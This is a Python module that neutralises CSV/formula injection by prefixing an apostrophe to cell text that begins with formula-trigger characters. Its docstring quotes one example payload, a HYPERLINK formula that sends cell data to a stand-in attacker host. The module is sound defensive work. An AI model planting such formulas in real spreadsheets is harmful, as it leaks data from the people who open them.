"""Guards for values written into spreadsheets and CSV files that users open in Excel.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` is run as a formula by Excel and
LibreOffice ("CSV/formula injection", OWASP). A name typed by a user such as
``=HYPERLINK("http://evil/?"&A1)`` would then leak data or run commands on the reader's
computer. Every exporter and template writer passes user text through ``cell_value``.
"""

from __future__ import annotations

from typing import Any

# Characters that make a spreadsheet treat the cell as a formula, including the full-width
# forms some IMEs produce and the control characters that Excel skips before a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
GUARD = "'"


def cell_value(value: Any) -> Any:
    """Return ``value`` ready to write into a cell: risky text gets a leading apostrophe.

    Numbers, dates and ``None`` pass unchanged, so a real negative number stays a number.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return GUARD + value
    return value
